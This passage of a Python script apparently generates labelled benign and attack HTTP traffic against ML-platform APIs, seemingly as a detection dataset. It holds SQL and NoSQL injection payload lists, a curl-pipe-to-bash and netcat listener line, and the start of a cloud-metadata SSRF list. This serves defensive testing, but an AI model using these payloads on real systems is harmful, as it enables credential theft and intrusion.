    for _ in range(5):
        b = {"inputs": [{"name": "text", "shape": [2], "datatype": "BYTES",
                         "data": R.sample(USER_PROMPTS, 2)}]}
        emit("benign", "kserve-v2", "POST", "/v2/models/bert-classifier/versions/3/infer", headers("kserve", "httpx", auth="jwt"), b)
    for p in ["/v2/health/ready", "/v2/models/resnet50", "/v2/models/resnet50/ready", "/v1/models/sklearn-iris"]:
        emit("benign", "kserve-v2", "GET", p, headers("kserve", "go", ctype=None, auth=None))
    for _ in range(5):
        b = {"instances": [[round(R.uniform(4, 8), 1), round(R.uniform(2, 4), 1), round(R.uniform(1, 7), 1), round(R.uniform(0, 2.5), 1)] for _ in range(2)]}
        emit("benign", "kserve-v1", "POST", "/v1/models/sklearn-iris:predict", headers("kserve", "requests", auth=None), b)
    # TorchServe
    for _ in range(8):
        img = base64.b64encode(bytes(R.getrandbits(8) for _ in range(240))).decode()
        t = R.choice(["b64", "json"])
        b = {"data": img} if t == "b64" else {"instances": [{"image_b64": img}]}
        emit("benign", "torchserve", "POST", f"/predictions/{R.choice(['densenet161', 'mnist', 'yolov8'])}",
             headers("torchserve", "requests", auth=None), b)
    for p in ["/models", "/models/densenet161", "/ping",
              "/models?" + q({"url": "https://models.acme.io/mar/densenet161.mar", "initial_workers": 1, "synchronous": "true"})]:
        emit("benign", "torchserve", "GET" if "url=" not in p else "POST", p, headers("torchserve", "curl", ctype=None, auth=None))


def gen_benign_mlflow():
    for _ in range(10):
        rid_ = rs(32, HEX)
        t = R.choice(["log-metric", "log-param", "log-batch", "set-tag"])
        if t == "log-metric":
            b = {"run_id": rid_, "key": R.choice(["val_loss", "accuracy", "f1"]), "value": round(R.random(), 5),
                 "timestamp": 1718000000000 + R.randint(0, 10**7), "step": R.randint(0, 100)}
        elif t == "log-param":
            b = {"run_id": rid_, "key": R.choice(["lr", "batch_size", "optimizer"]), "value": R.choice(["0.0003", "64", "adamw"])}
        elif t == "log-batch":
            b = {"run_id": rid_, "metrics": [{"key": "loss", "value": 0.41, "timestamp": 1718000000000, "step": 3}],
                 "params": [{"key": "epochs", "value": "10"}], "tags": [{"key": "mlflow.note.content", "value": "Baseline with **class weights**."}]}
        else:
            b = {"run_id": rid_, "key": "team", "value": "recsys"}
        emit("benign", "mlflow", "POST", f"/api/2.0/mlflow/runs/{t}", headers("mlflow", "mlflow", auth="jwt"), b)
    for _ in range(8):
        p = R.choice([
            "/api/2.0/mlflow/runs/get?" + q({"run_id": rs(32, HEX)}),
            "/api/2.0/mlflow/artifacts/list?" + q({"run_id": rs(32, HEX), "path": "model"}),
            "/get-artifact?" + q({"path": "model/MLmodel", "run_uuid": rs(32, HEX)}),
            "/api/2.0/mlflow/registered-models/get?" + q({"name": "fraud-detector"}),
            "/api/2.0/mlflow/model-versions/get-download-uri?" + q({"name": "fraud-detector", "version": "7"}),
            "/api/2.0/mlflow-artifacts/artifacts/1/" + rs(32, HEX) + "/artifacts/model/requirements.txt",
        ])
        emit("benign", "mlflow", "GET", p, headers("mlflow", "mlflow", ctype=None, auth="jwt"))
    for _ in range(5):
        b = {"filter": "metrics.accuracy > 0.9 and params.optimizer = 'adamw' and tags.team = 'recsys'",
             "experiment_ids": [str(R.randint(1, 40))], "max_results": 100, "order_by": ["metrics.accuracy DESC"]}
        emit("benign", "mlflow", "POST", "/api/2.0/mlflow/runs/search", headers("mlflow", "mlflow", auth="jwt"), b)
    for _ in range(3):
        b = {"name": "churn-model", "source": f"mlflow-artifacts:/3/{rs(32, HEX)}/artifacts/model", "run_id": rs(32, HEX)}
        emit("benign", "mlflow", "POST", "/api/2.0/mlflow/model-versions/create", headers("mlflow", "mlflow", auth="jwt"), b)


def gen_benign_hub():
    for _ in range(6):
        repo = R.choice(["acme/intent-classifier", "ml-team/bge-finetuned", "acme/llama3-support-lora"])
        card = ("---\nlicense: apache-2.0\nlanguage: [en, de]\ntags: [text-classification]\n---\n# Intent classifier\n\n"
                "Fine-tuned from [bert-base](https://huggingface.co/bert-base-uncased). See the [eval report](./eval.md).\n\n"
                "| metric | value |\n|---|---|\n| accuracy | 0.93 |\n")
        b = {"summary": "Update model card", "operations": [{"key": "file", "value": {"path": "README.md",
             "content": base64.b64encode(card.encode()).decode(), "encoding": "base64"}}]}
        emit("benign", "hub-upload", "POST", f"/api/models/{repo}/commit/main", headers("hf", "hf", auth="hf"), b)
    for _ in range(5):
        repo = R.choice(["acme/intent-classifier", "sentence-transformers/all-MiniLM-L6-v2"])
        f = R.choice(["config.json", "model.safetensors", "tokenizer.json", "onnx/model.onnx"])
        emit("benign", "hub-download", "GET", f"/{repo}/resolve/main/{f}", headers("hf", "hf", ctype=None, auth="hf"))
    for _ in range(4):
        b = {"files": [{"path": "model.safetensors", "sample": base64.b64encode(bytes(R.getrandbits(8) for _ in range(64))).decode(), "size": 438012345}]}
        emit("benign", "hub-upload", "POST", "/api/models/acme/intent-classifier/preupload/main", headers("hf", "hf", auth="hf"), b)
    for _ in range(5):
        rows = "\n".join(json.dumps({"text": R.choice(USER_PROMPTS), "label": R.choice(["billing", "outage", "other"])}, ensure_ascii=False) for _ in range(5))
        ct, body = multipart([("split", R.choice(["train", "validation"]))],
                             [("file", "train.jsonl", "application/jsonl", rows)])
        emit("benign", "dataset-upload", "POST", "/api/datasets/acme/support-intents/upload/main/data",
             headers("hf", "requests", ctype=ct, auth="hf"), body)


LABELS = ["positive", "negative", "neutral", "Cat", "Dog", "Invoice", "Receipt", "PER", "ORG", "LOC"]


def gen_benign_tools_ui():
    # Label Studio
    for _ in range(10):
        tasks = [{"data": {"text": R.choice(USER_PROMPTS), "meta_info": {"source": "zendesk", "tenant": R.choice(TENANTS)}}}
                 for _ in range(R.randint(1, 4))]
        emit("benign", "label-studio", "POST", f"/api/projects/{R.randint(1, 60)}/import",
             headers("labelstudio", "requests", auth=None, extra=[["Authorization", "Token " + rs(40, HEX)]]), tasks)
    for _ in range(8):
        b = {"result": [{"from_name": "sentiment", "to_name": "text", "type": "choices",
                         "value": {"choices": [R.choice(LABELS[:3])]}}],
             "lead_time": round(R.uniform(2, 60), 2), "task": R.randint(1, 9999)}
        if R.random() < 0.4:
            b["result"].append({"from_name": "label", "to_name": "text", "type": "labels",
                                "value": {"start": 0, "end": 12, "text": "Acme Corp", "labels": ["ORG"]}})
        emit("benign", "label-studio", "POST", f"/api/tasks/{R.randint(1, 9999)}/annotations",
             headers("labelstudio", "browser", auth=None, extra=[["X-CSRFToken", rs(64)], ["Cookie", "sessionid=" + rs(32).lower()]]), b)
    for _ in range(4):
        cfg = ('<View><Text name="text" value="$text"/><Choices name="sentiment" toName="text" choice="single">'
               '<Choice value="positive"/><Choice value="negative"/><Choice value="neutral"/></Choices></View>')
        emit("benign", "label-studio", "PATCH", f"/api/projects/{R.randint(1, 60)}",
             headers("labelstudio", "browser", auth=None, extra=[["X-CSRFToken", rs(64)]]), {"title": "Sentiment v3", "label_config": cfg})
    # Jupyter contents / simple kernels
    for _ in range(8):
        nb = {"type": "notebook", "format": "json", "content": {"nbformat": 4, "nbformat_minor": 5, "metadata": {"kernelspec": {"name": "python3"}},
              "cells": [{"cell_type": "markdown", "metadata": {}, "source": "# Churn analysis\nExploring Q3 data."},
                        {"cell_type": "code", "metadata": {}, "execution_count": 1, "outputs": [],
                         "source": R.choice(["import pandas as pd\ndf = pd.read_parquet('data/churn.parquet')\ndf.describe()",
                                             "import numpy as np\nx = np.linspace(0, 1, 50)\nx.mean()",
                                             "df.groupby('plan')['mrr'].sum().plot(kind='bar')"])}]}}
        emit("benign", "jupyter", "PUT", f"/user/{R.choice(['alice', 'bob', 'chen'])}/api/contents/work/{R.choice(['churn', 'eda', 'baseline'])}.ipynb",
             headers("jupyter", "browser", auth=None, extra=[["X-XSRFToken", rs(40)], ["Authorization", "token " + rs(48, HEX)]]), nb)
    for p in ["/api/kernels", "/api/sessions", "/api/contents/work?content=1", "/api/kernelspecs"]:
        emit("benign", "jupyter", "GET", "/user/alice" + p, headers("jupyter", "browser", ctype=None, auth=None, extra=[["Authorization", "token " + rs(48, HEX)]]))
    # Feast feature server
    for _ in range(8):
        b = {"features": R.sample(["driver_hourly_stats:conv_rate", "driver_hourly_stats:acc_rate", "driver_hourly_stats:avg_daily_trips",
                                   "customer_profile:lifetime_value"], 2),
             "entities": {"driver_id": [R.randint(1000, 1010) for _ in range(3)]}, "full_feature_names": True}
        emit("benign", "feast", "POST", "/get-online-features", headers("feast", "requests", auth=None), b)
    for _ in range(3):
        b = {"push_source_name": "driver_stats_push_source", "df": {"driver_id": [1001], "event_timestamp": ["2024-06-12 10:00:00"],
             "conv_rate": [0.71], "acc_rate": [0.9], "avg_daily_trips": [14]}, "to": "online"}
        emit("benign", "feast", "POST", "/push", headers("feast", "requests", auth=None), b)


PROMPT_TEMPLATES = [
    "You are a support agent for {{ company }}. Answer the customer's question: {{ question }}",
    "Summarize the following {{ doc_type }} in {{ n_bullets }} bullet points:\n\n{{ document }}",
    "{% for item in examples %}Q: {{ item.q }}\nA: {{ item.a }}\n{% endfor %}Q: {{ query }}\nA:",
    "Translate the text into {language}:\n{text}",
    "Hello {{ user.first_name | default('there') }}, here is your weekly digest for {{ week }}.",
    "Context:\n{context}\n\nAnswer the question: {question}\nIf you are unsure, say so.",
    "{% if tone == 'formal' %}Dear {{ name }},{% else %}Hi {{ name }},{% endif %}\n{{ body }}",
    "Classify the sentiment of: \"{input}\". Respond with one of {labels}.",
]


def gen_benign_prompts():
    for _ in range(16):
        tpl = R.choice(PROMPT_TEMPLATES)
        b = {"name": R.choice(["support-answer", "doc-summary", "few-shot-qa", "translate", "digest-email"]),
             "template": tpl, "template_format": "jinja2" if "{{" in tpl or "{%" in tpl else "f-string",
             "input_variables": sorted(set(w.strip("{} .|") for w in tpl.split() if w.startswith("{"))),
             "tags": ["prod"], "version": R.randint(1, 20)}
        emit("benign", "prompt-template", "POST", "/api/v1/prompts", headers("prompts", "httpx", auth="jwt"), b)
    for _ in range(10):
        b = {"prompt_id": "doc-summary", "version": R.randint(1, 9),
             "variables": {"doc_type": "report", "n_bullets": 5, "document": R.choice(DOC_TEXTS),
                           "company": "Acme", "question": R.choice(USER_PROMPTS)}}
        emit("benign", "prompt-render", "POST", "/api/v1/prompts/render", headers("prompts", "httpx", auth="jwt"), b)
    for _ in range(4):
        emit("benign", "prompt-template", "GET", "/api/v1/prompts?" + q({"name": "support-answer", "label": "production"}),
             headers("prompts", "requests", ctype=None, auth="jwt"))


def gen_benign_platform():
    # files / batches / fine-tuning
    for _ in range(6):
        rows = "\n".join(json.dumps({"custom_id": f"req-{i}", "method": "POST", "url": "/v1/chat/completions",
                                     "body": {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": R.choice(USER_PROMPTS)}]}},
                                    ensure_ascii=False) for i in range(3))
        ct, body = multipart([("purpose", R.choice(["batch", "fine-tune"]))], [("file", "batch_input.jsonl", "application/octet-stream", rows)])
        emit("benign", "files", "POST", "/v1/files", headers("gw", "openai", ctype=ct), body)
    for _ in range(4):
        emit("benign", "files", "POST", "/v1/batches", headers("gw"),
             {"input_file_id": "file-" + rs(24), "endpoint": "/v1/chat/completions", "completion_window": "24h"})
    for _ in range(4):
        emit("benign", "fine-tune", "POST", "/v1/fine_tuning/jobs", headers("gw", org=True),
             {"training_file": "file-" + rs(24), "model": "gpt-4o-mini-2024-07-18", "suffix": "support-v2",
              "hyperparameters": {"n_epochs": 3}})
    # LiteLLM admin
    for _ in range(6):
        t = R.choice(["key", "spend"])
        if t == "key":
            emit("benign", "litellm", "POST", "/key/generate", headers("gw", "requests"),
                 {"models": ["gpt-4o-mini", "llama3.1:8b"], "max_budget": 50, "duration": "30d",
                  "metadata": {"team": R.choice(TENANTS), "user": "svc-chatbot"}})
        else:
            emit("benign", "litellm", "GET", "/spend/logs?" + q({"start_date": "2024-06-01", "end_date": "2024-06-30", "api_key": "sk-..." + rs(4)}),
                 headers("gw", "requests", ctype=None))
    # webhooks registration (benign targets)
    for _ in range(4):
        emit("benign", "webhook", "POST", "/api/v1/webhooks", headers("prompts", "httpx", auth="jwt"),
             {"url": R.choice(["https://hooks.slack.com/services/T000/B000/XXXX", "https://ci.acme.io/hooks/model-registered",
                               "https://api.pagerduty.com/integration/abc123/enqueue"]), "events": ["model_version.created"]})
    # moderation / rerank / audio
    for _ in range(4):
        emit("benign", "rerank", "POST", "/v1/rerank", headers("gw", "httpx"),
             {"model": "BAAI/bge-reranker-v2-m3", "query": R.choice(USER_PROMPTS), "documents": R.sample(DOC_TEXTS, 4), "top_n": 2})
    for _ in range(3):
        emit("benign", "moderation", "POST", "/v1/moderations", headers("gw"), {"input": R.choice(USER_PROMPTS), "model": "omni-moderation-latest"})


# ------------------------------------------------------------ dev-content ---

DEV_SNIPPETS = {
    "sql": [
        "SELECT c.name, SUM(o.total) AS revenue\nFROM customers c\nJOIN orders o ON o.customer_id = c.id\nWHERE o.created_at >= '2024-01-01'\nGROUP BY c.name\nORDER BY revenue DESC\nLIMIT 10;",
        "SELECT * FROM users WHERE email = 'a@b.com' OR 1=1; -- why is this query returning every row?",
        "UPDATE accounts SET balance = balance - 100 WHERE id = 42;\nUPDATE accounts SET balance = balance + 100 WHERE id = 7;",
        "WITH ranked AS (SELECT id, dept, salary, ROW_NUMBER() OVER (PARTITION BY dept ORDER BY salary DESC) rn FROM employees) SELECT * FROM ranked WHERE rn <= 3;",
        "SELECT name FROM products UNION SELECT name FROM archived_products ORDER BY name;",
        "DROP TABLE IF EXISTS staging_events; CREATE TABLE staging_events (id bigint, payload jsonb);",
    ],
    "shell": [
        "find /var/log -name '*.log' -mtime +7 -exec rm {} \\;",
        "cat /etc/passwd | cut -d: -f1 | sort",
        "for f in *.csv; do wc -l \"$f\"; done | sort -n",
        "tar -czvf backup.tar.gz /home/app/data && scp backup.tar.gz user@backup:/srv/",
        "ps aux | grep python | awk '{print $2}' | xargs kill -9",
        "curl -s https://get.example.com/install.sh | bash",
        "nc -lvnp 4444",
    ],
    "python": [
        "import os\nimport subprocess\n\nresult = subprocess.run(['ls', '-la', os.getcwd()], capture_output=True, text=True)\nprint(result.stdout)",
        "import pickle\n\nwith open('model.pkl', 'rb') as f:\n    model = pickle.load(f)\n# is this safe if the file comes from users?",
        "os.system('rm -rf ' + user_dir)  # my reviewer flagged this line, why?",
        "def handler(event, context):\n    cmd = event['cmd']\n    return eval(cmd)",
        "import yaml\ncfg = yaml.load(open('config.yml'), Loader=yaml.FullLoader)",
        "from jinja2 import Template\nprint(Template('Hello {{ name }}!').render(name='World'))",
    ],
    "html": [
        "<form action=\"/login\" method=\"post\">\n  <input type=\"text\" name=\"user\">\n  <button onclick=\"submitForm()\">Login</button>\n</form>",
        "<script>\ndocument.getElementById('out').innerHTML = location.hash.slice(1);\n</script>",
        "<img src=\"logo.png\" onerror=\"this.src='fallback.png'\" alt=\"logo\">",
        "fetch('/api/items').then(r => r.json()).then(items => { list.innerHTML = items.map(i => `<li>${i.name}</li>`).join(''); });",
        "<svg width=\"100\" height=\"100\"><circle cx=\"50\" cy=\"50\" r=\"40\" fill=\"teal\"/></svg>",
    ],
    "jinja": [
        "{% for user in users %}\n  <li>{{ user.name | e }}</li>\n{% endfor %}",
        "{% extends 'base.html' %}{% block content %}{{ super() }}{% endblock %}",
        "{{ config.DEBUG }} shows up in my Flask template — how do I hide it in production?",
        "{% set total = items | sum(attribute='price') %}Total: {{ '%.2f' | format(total) }}",
    ],
    "trace": [
        "Traceback (most recent call last):\n  File \"/app/server.py\", line 88, in handle\n    data = json.loads(body)\n  File \"/usr/lib/python3.11/json/__init__.py\", line 346, in loads\n    return _default_decoder.decode(s)\njson.decoder.JSONDecodeError: Expecting value: line 1 column 1 (char 0)",
        "Exception in thread \"main\" java.lang.NullPointerException\n\tat com.acme.billing.InvoiceService.total(InvoiceService.java:57)\n\tat com.acme.billing.Main.main(Main.java:12)",
        "torch.cuda.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB (GPU 0; 23.69 GiB total capacity; 21.10 GiB already allocated)",
        "psycopg2.errors.SyntaxError: syntax error at or near \"WHERE\"\nLINE 1: SELECT * FROM orders WHERE WHERE id = 5",
    ],
    "k8s": [
        "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: vllm\nspec:\n  replicas: 1\n  template:\n    spec:\n      containers:\n      - name: vllm\n        image: vllm/vllm-openai:v0.5.3\n        args: [\"--model\", \"meta-llama/Meta-Llama-3.1-8B-Instruct\"]\n        resources:\n          limits:\n            nvidia.com/gpu: 1",
        "apiVersion: v1\nkind: Pod\nmetadata:\n  name: debug\nspec:\n  hostNetwork: true\n  containers:\n  - name: sh\n    image: busybox\n    command: [\"sh\", \"-c\", \"sleep 3600\"]\n    volumeMounts:\n    - name: host\n      mountPath: /host\n  volumes:\n  - name: host\n    hostPath:\n      path: /",
        "kubectl -n ml get pods -l app=triton -o jsonpath='{.items[*].status.podIP}'",
    ],
    "curl": [
        "curl http://localhost:8000/v1/chat/completions -H \"Content-Type: application/json\" -d '{\"model\": \"llama3\", \"messages\": [{\"role\": \"user\", \"content\": \"hi\"}]}'",
        "curl -X POST https://api.example.com/v2/models/resnet/infer -H 'Authorization: Bearer $TOKEN' --data @payload.json",
        "curl http://169.254.169.254/latest/meta-data/ returns 401 on my EC2 instance, is IMDSv2 the reason?",
    ],
}

DEV_ASKS = ["Can you explain what this does?", "Is there a bug here?", "How can I make this safer?",
            "Explain this line by line:", "Why does this fail?", "Rewrite this in a more idiomatic way:",
            "Is this a security risk? Explain.", "Kannst du mir erklären, was das macht?", "¿Qué hace este código?"]


def gen_dev_content():
    kinds = list(DEV_SNIPPETS)
    for i in range(34):
        kind = kinds[i % len(kinds)]
        snip = R.choice(DEV_SNIPPETS[kind])
        b = chat_body(system=False)
        b["messages"] = [{"role": "system", "content": "You are a senior software engineer helping colleagues with code review."},
                         {"role": "user", "content": f"{R.choice(DEV_ASKS)}\n\n```\n{snip}\n```"}]
        emit("benign", "code-prompt", "POST", "/v1/chat/completions", chat_headers(), b, group="dev-content")
    for _ in range(8):
        kind = R.choice(kinds)
        snip = R.choice(DEV_SNIPPETS[kind])
        b = {"model": "qwen2.5-coder:7b", "prompt": f"# Explain the following {kind} snippet\n{snip}\n# Explanation:", "stream": False}
        emit("benign", "code-prompt", "POST", "/api/generate", headers("ollama", "httpx", auth=None), b, group="dev-content")
    # RAG documents containing code (runbooks, docs)
    for _ in range(10):
        kind = R.choice(["sql", "shell", "k8s", "trace", "curl", "python"])
        doc = f"Runbook: {R.choice(['Restarting the inference pod', 'Rotating DB credentials', 'Debugging OOM', 'Backfilling events'])}\n\n" + R.choice(DEV_SNIPPETS[kind])
        b = {"collection": "eng-runbooks", "documents": [{"id": uuid4(), "text": doc,
             "metadata": {"source": "git", "path": f"docs/runbooks/{rs(6).lower()}.md", "tenant": "acme"}}]}
        emit("benign", "rag-document", "POST", "/v1/ingest/documents", headers("rag", "httpx", auth="jwt"), b, group="dev-content")
    for _ in range(4):
        md = "# Deploy guide\n\n```yaml\n" + DEV_SNIPPETS["k8s"][0] + "\n```\n\n```bash\n" + R.choice(DEV_SNIPPETS["shell"]) + "\n```\n"
        ct, body = multipart([("collection", "eng-docs")], [("file", "DEPLOY.md", "text/markdown", md)])
        emit("benign", "rag-document", "POST", "/v1/ingest/files", headers("rag", "requests", ctype=ct, auth="jwt"), body, group="dev-content")
    # embeddings of code
    for _ in range(4):
        b = {"model": "text-embedding-3-small", "input": [R.choice(DEV_SNIPPETS[k]) for k in R.sample(kinds, 3)]}
        emit("benign", "code-embedding", "POST", "/v1/embeddings", headers("gw"), b, group="dev-content")
    # prompt templates that embed code/Jinja for HTML email generation
    for _ in range(4):
        tpl = R.choice(DEV_SNIPPETS["jinja"])
        b = {"name": "html-list-renderer", "template": "Render this Jinja for the user:\n" + tpl, "template_format": "mustache"}
        emit("benign", "code-template", "POST", "/api/v1/prompts", headers("prompts", "httpx", auth="jwt"), b, group="dev-content")
    # tool-call arguments that carry code for a code-interpreter sandbox the user explicitly asked for
    for _ in range(4):
        code = R.choice(["import pandas as pd\ndf = pd.read_csv('sales.csv')\nprint(df.groupby('region').revenue.sum())",
                         "import math\nprint(math.sqrt(2) * 10)", "sorted([3, 1, 2], reverse=True)"])
        call_id = "call_" + rs(24)
        b = {"model": "gpt-4o", "messages": [{"role": "user", "content": "Total revenue by region from the uploaded file please"},
             {"role": "assistant", "content": None, "tool_calls": [{"id": call_id, "type": "function",
              "function": {"name": "python_sandbox", "arguments": json.dumps({"code": code})}}]},
             {"role": "tool", "tool_call_id": call_id, "content": "region\nEMEA    1.2M\nNA      2.9M"}]}
        emit("benign", "code-tool", "POST", "/v1/chat/completions", chat_headers(), b, group="dev-content")


# ---------------------------------------------------------------- attacks ---

def tool_call_body(name, args_str, model=None):
    """Chat request whose assistant turn carries attacker-controlled tool-call arguments (a JSON string)."""
    call_id = "call_" + rs(24)
    return {"model": model or R.choice(MODELS[:3]), "messages": [
        {"role": "user", "content": R.choice(USER_PROMPTS)},
        {"role": "assistant", "content": None, "tool_calls": [
            {"id": call_id, "type": "function", "function": {"name": name, "arguments": args_str}}]},
        {"role": "tool", "tool_call_id": call_id, "content": "{\"status\": \"pending\"}"}],
        "tools": [t for t in TOOLS if t["function"]["name"] == name] or TOOLS[:1]}


def agent_invoke(cat, sub, name, args, path_prefix="/api/v1/agents"):
    b = {"run_id": "run_" + rs(12), "tool": name, "arguments": json.dumps(args) if not isinstance(args, str) else args}
    emit(cat, sub, "POST", f"{path_prefix}/{rs(8).lower()}/tools/{name}/invoke", headers("agent", "httpx", auth="jwt"), b)


SQLI = [
    "C000001' OR '1'='1",
    "C000001' UNION SELECT username, password_hash, NULL FROM users--",
    "EMEA' AND 1=CAST((SELECT version()) AS int)--",
    "x'; DROP TABLE orders;--",
    "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)",
    "EMEA'||(SELECT pg_sleep(10))||'",
    "' UNION ALL SELECT table_name,column_name,NULL FROM information_schema.columns--",
    "1' AND extractvalue(1,concat(0x7e,(SELECT user()),0x7e))-- -",
    "2024-Q2'; EXEC xp_cmdshell('whoami');--",
    "acme' AND SUBSTRING((SELECT password FROM users LIMIT 1),1,1)='a",
    "'/**/UNION/**/SELECT/**/api_key,spend,NULL/**/FROM/**/\"LiteLLM_VerificationToken\"--",
    "1; WAITFOR DELAY '0:0:5'--",
    "acme') OR 1=1 LIMIT 1 OFFSET 0 --",
    "' OR 1=1 INTO OUTFILE '/var/www/html/x.php'--",
]


def gen_attack_sqli():
    for i in range(8):
        p = SQLI[i % len(SQLI)]
        name, key = R.choice([("search_orders", "customer_id"), ("query_sales_db", "region"), ("query_sales_db", "quarter")])
        args = {key: p}
        if name == "query_sales_db":
            args["metric"] = "revenue"
        emit("sqli", "tool-call", "POST", "/v1/chat/completions", chat_headers(), tool_call_body(name, json.dumps(args)))
    for i in range(4):
        agent_invoke("sqli", "agent-tool", "search_orders", {"customer_id": R.choice(SQLI), "limit": 5})
    # raw SQL-ish tool (text-to-SQL) with stacked queries
    for p in ["SELECT region, SUM(revenue) FROM sales GROUP BY region; DROP TABLE sales;--",
              "SELECT * FROM sales WHERE region='x' UNION SELECT usename, passwd, NULL FROM pg_shadow--"]:
        agent_invoke("sqli", "agent-tool", "run_sql", {"query": p, "readonly": True})
    # retrieval API query params
    for i in range(6):
        params = {"q": "refund policy", "top_k": 5, "tenant": "acme"}
        key = R.choice(["tenant", "top_k", "sort"])
        params[key] = SQLI[R.randrange(len(SQLI))]
        emit("sqli", "retrieve-param", "GET", "/v1/retrieve?" + q(params), headers("rag", "httpx", ctype=None, auth="jwt"))
    # pgvector style search API with filter fields
    for i in range(4):
        b = {"embedding": vec(8), "k": 5, "filter": {"tenant": R.choice(SQLI), "lang": "en"}}
        emit("sqli", "vector-filter", "POST", "/v1/pgvector/collections/kb/search", headers("rag", "requests", auth="jwt"), b)
    # Milvus boolean expression / Weaviate valueText
    emit("sqli", "vector-filter", "POST", "/v2/vectordb/entities/query", headers("milvus", "requests"),
         {"collectionName": "kb", "filter": "tenant == \"acme\" or 1==1) UNION SELECT * FROM users--", "outputFields": ["*"]})
    emit("sqli", "vector-filter", "POST", "/v1/graphql", headers("weaviate", "requests"),
         {"query": '{ Get { Document(where: {path: ["tenant"], operator: Equal, valueText: "acme\' OR \'1\'=\'1"}) { title body } } }'})
    # MLflow search filter / order_by
    emit("sqli", "mlflow", "POST", "/api/2.0/mlflow/runs/search", headers("mlflow", "mlflow", auth="jwt"),
         {"experiment_ids": ["1"], "filter": "params.lr = '0.1' OR 1=1 UNION SELECT key, value FROM params--", "max_results": 10})
    emit("sqli", "mlflow", "POST", "/api/2.0/mlflow/runs/search", headers("mlflow", "mlflow", auth="jwt"),
         {"experiment_ids": ["1"], "order_by": ["metrics.accuracy DESC, (SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)"]})
    emit("sqli", "mlflow", "GET", "/api/2.0/mlflow/registered-models/search?" + q({"filter": "name LIKE '%' AND 1=(SELECT 1 FROM pg_sleep(5))--"}),
         headers("mlflow", "mlflow", ctype=None, auth="jwt"))
    # LiteLLM spend logs (api_key param) — plain, double-encoded
    p = "sk-1' UNION SELECT token, key_alias, spend FROM \"LiteLLM_VerificationToken\"--"
    emit("sqli", "litellm", "GET", "/global/spend/logs?" + q({"api_key": p}), headers("gw", "requests", ctype=None))
    emit("sqli", "litellm", "GET", "/spend/logs?api_key=" + quote(quote(p, safe=""), safe=""), headers("gw", "requests", ctype=None))
    # feature store entity, Label Studio filter, JSON unicode-escaped quote
    emit("sqli", "feast", "POST", "/get-online-features", headers("feast", "requests", auth=None),
         '{"features": ["customer_profile:lifetime_value"], "entities": {"customer_id": ["1001\\u0027 OR \\u00271\\u0027=\\u00271"]}}')
    emit("sqli", "label-studio", "GET", "/api/tasks?" + q({"project": "3", "ordering": "id;SELECT pg_sleep(7)--"}),
         headers("labelstudio", "browser", ctype=None, auth=None, extra=[["Authorization", "Token " + rs(40, HEX)]]))
    # nested JSON: metadata string that itself is JSON
    inner = json.dumps({"filter": {"source": "confluence' UNION SELECT NULL,current_user,NULL--"}})
    emit("sqli", "nested-json", "POST", "/v1/ingest/documents", headers("rag", "httpx", auth="jwt"),
         {"collection": "kb", "documents": [{"id": uuid4(), "text": "hello", "metadata": {"loader_options": inner}}]})
    # header
    emit("sqli", "header", "GET", "/v1/models", headers("gw", "requests", ctype=None,
         extra=[["X-Tenant-ID", "acme' AND 1=(SELECT COUNT(*) FROM pg_catalog.pg_tables)--"]]))


NOSQL_FILTERS = [
    {"tenant": {"$ne": None}},
    {"tenant": {"$ne": "acme"}},
    {"tenant": {"$regex": ".*"}},
    {"$where": "function() { return true; }"},
    {"$where": "sleep(5000) || this.tenant == 'acme'"},
    {"tenant": {"$gt": ""}},
    {"$or": [{"tenant": "acme"}, {"tenant": {"$exists": True}}]},
    {"tenant": {"$in": [{"$regex": "^"}]}},
    {"owner": {"$nin": [""]}, "$comment": "x"},
]


def gen_attack_nosqli():
    for f in NOSQL_FILTERS[:6]:
        emit("nosqli", "rag-filter", "POST", "/v1/retrieve", headers("rag", "httpx", auth="jwt"),
             {"q": "salary bands", "top_k": 50, "filter": f})
    for f in [{"tenant": {"$ne": "acme"}}, {"$where": "this.tenant != 'acme'"}, {"tenant": {"$regex": "^(?!acme).*"}}]:
        emit("nosqli", "chroma-where", "POST", f"/api/v1/collections/{uuid4()}/get", headers("chroma", "httpx", auth=None),
             {"where": f, "limit": 1000, "include": ["documents", "metadatas"]})
    # login / user lookups
    for body in [{"username": "admin", "password": {"$ne": "x"}},
                 {"username": {"$regex": "^adm"}, "password": {"$gt": ""}},
                 {"email": {"$ne": None}, "password": {"$ne": None}}]:
        emit("nosqli", "login", "POST", "/api/auth/login", headers("labelstudio", "browser", auth=None), body)
    # query-string bracket form
    for qs in ["username=admin&password%5B%24ne%5D=invalid",
               "tenant%5B%24regex%5D=.%2A&top_k=100",
               "user_id%5B%24gt%5D=&api_key%5B%24exists%5D=true"]:
        path = R.choice(["/v1/retrieve?", "/api/v1/prompts?", "/key/info?"])
        emit("nosqli", "query-operator", "GET", path + qs, headers(R.choice(["rag", "prompts", "gw"]), "requests", ctype=None, auth="jwt"))
    # form-encoded
    emit("nosqli", "login", "POST", "/user/login", headers("labelstudio", "browser", ctype="application/x-www-form-urlencoded", auth=None),
         "email=admin%40acme.io&password[$ne]=1&csrfmiddlewaretoken=" + rs(64))
    # nested JSON in tool arguments / metadata
    agent_invoke("nosqli", "agent-tool", "find_customer", json.dumps({"filter": {"email": {"$regex": ".*@acme\\.io"}, "$where": "1==1"}}))
    emit("nosqli", "nested-json", "POST", "/v1/chat/completions", chat_headers(),
         tool_call_body("search_orders", json.dumps({"customer_id": {"$ne": ""}, "status": {"$in": ["open", "shipped", "cancelled"]}, "limit": 50})))
    emit("nosqli", "mongo-aggregate", "POST", "/api/v1/conversations/search", headers("agent", "httpx", auth="jwt"),
         {"pipeline": [{"$match": {"tenant": "acme"}}, {"$lookup": {"from": "api_keys", "localField": "user", "foreignField": "user", "as": "k"}},
                       {"$unionWith": {"coll": "users", "pipeline": [{"$project": {"password": 1}}]}}]})
    emit("nosqli", "js-injection", "POST", "/api/v1/conversations/search", headers("agent", "httpx", auth="jwt"),
         {"query": {"$function": {"body": "function(){ return db.getSiblingDB('admin').system.users.find() }", "args": [], "lang": "js"}}})
    emit("nosqli", "js-injection", "GET", "/api/v1/threads?" + q({"owner": "alice'; while(true){}; var x='"}),
         headers("agent", "requests", ctype=None, auth="jwt"))


SSRF_URLS = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/api/token",
